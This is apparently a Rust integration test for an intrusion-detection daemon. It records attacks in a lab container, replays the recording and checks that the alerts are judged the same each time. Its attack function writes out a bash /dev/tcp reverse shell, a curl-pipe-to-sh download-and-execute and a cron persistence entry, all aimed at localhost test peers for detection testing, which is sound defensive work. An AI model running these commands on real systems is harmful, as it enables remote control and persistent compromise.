//! What the daemon judged is recorded and judged again: the same findings, and the same each time.

use crate::attacks::{Stage, stage};
use crate::container::{end_with_us, wait};
use crate::daemon;
use crate::lab::Peer;
use crate::pace;
use anyhow::{Context, Result, ensure};
use rustix::process::{Pid, Signal, kill_process};
use serde_json::Value;
use std::fs;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

/// Kinds that the attacks make.
const KINDS: [&str; 3] = ["reverse_shell", "download_exec", "persistence_cron"];

/// See the module.
pub fn recording_is_judged_alike() -> Result<()> {
    let stage = stage("monitor")?;
    let folder = tempfile::tempdir()?;
    let file = folder.path().join("attacks.rec");
    let mut record = Command::new(daemon::program()?);
    record.arg("record").arg(&file).arg("--socket").arg(stage.watch.daemon.socket());
    let recorder = end_with_us(record.args(["--container", stage.container.id()])).spawn()?;
    await_begin(&file)?;
    attack(&stage)?;
    let live: Vec<Value> =
        KINDS.iter().flat_map(|kind| stage.watch.daemon.alerts(kind, stage.container.id())).collect();
    kill_process(Pid::from_child(&recorder), Signal::INT)?;
    ensure!(wait(recorder, Duration::from_secs(5))?.success(), "record failed");

    let (rows, summary) = replay(&file, None)?;
    let (again, _) = replay(&file, None)?;
    ensure!(rows == again, "two replays differ:\n{rows}\n{again}");
    let judged = rows.lines().map(serde_json::from_str).collect::<Result<Vec<Value>, _>>()?;
    for alert in live {
        let same = judged.iter().any(|row| essence(row) == essence(&alert));
        ensure!(
            same,
            "not found again: {:#}\namong {:#}\n{summary}",
            essence(&alert),
            judged.iter().map(essence).collect::<Value>()
        );
    }
    ensure!(summary.contains(" 0 missing"), "{summary}");
    ensure!(!summary.contains("kill"), "the built-in mode touches nothing: {summary}");
    let config = folder.path().join("protect.toml");
    fs::write(&config, "mode = \"protect\"\n")?;
    let (_, summary) = replay(&file, Some(&config))?;
    ensure!(summary.lines().any(|line| line.starts_with("reverse_shell") && line.contains("kill")), "{summary}");
    Ok(())
}

fn attack(stage: &Stage) -> Result<()> {
    let id = stage.container.id();
    let shell = Peer::shell(stage.container.listen()?, "exit\n", pace::wait(Duration::from_secs(3)))?;
    stage.container.run(&format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", shell.port))?;
    let web = Peer::web(stage.container.listen()?, "touch /tmp/ran\n")?;
    stage.container.run(&format!("curl -s http://127.0.0.1:{}/x | sh", web.port))?;
    stage.container.run("mkdir -p /etc/cron.d; echo '* * * * * root true' > /etc/cron.d/x")?;
    KINDS.iter().try_for_each(|kind| stage.watch.daemon.await_alert(kind, id).map(drop))
}

fn await_begin(file: &Path) -> Result<()> {
    let until = Instant::now() + pace::wait(Duration::from_secs(5));
    while fs::metadata(file).map_or(0, |meta| meta.len()) == 0 {
        ensure!(Instant::now() < until, "no recording begins");
        std::thread::sleep(Duration::from_millis(10));
    }
    Ok(())
}

/// Rows and summary.
fn replay(file: &Path, config: Option<&Path>) -> Result<(String, String)> {
    let mut replay = Command::new(daemon::program()?);
    replay.args(["replay", "--json"]).arg(file);
    // The machine's own configuration is none of the test's.
    replay.arg("--config").arg(config.unwrap_or(Path::new("/dev/null")));
    let done = replay.output().context("replay")?;
    let text = |bytes| String::from_utf8(bytes).context("not text");
    let summary = text(done.stderr)?;
    ensure!(done.status.success(), "replay: {summary}");
    Ok((text(done.stdout)?, summary))
}

/// What of an alert is the same whoever judges it, and when.
fn essence(row: &Value) -> Value {
    let mut row = row.clone();
    let fields = [
        ("/event", "id"),
        ("/event", "created"),
        ("/bulkhead", "latency_us"),
        ("/bulkhead", "incident"),
        ("/bulkhead/finding", "id"),
    ];
    for (object, field) in fields {
        if let Some(object) = row.pointer_mut(object).and_then(Value::as_object_mut) {
            object.remove(field);
        }
    }
    timeless(&mut row);
    row
}

/// The boot clock is read against the wall clock each time: microseconds apart.
fn timeless(value: &mut Value) {
    match value {
        Value::Object(fields) => {
            fields.retain(|name, _| name != "@timestamp" && name != "start");
            fields.values_mut().for_each(timeless);
        }
        Value::Array(values) => values.iter_mut().for_each(timeless),
        _ => {}
    }
}
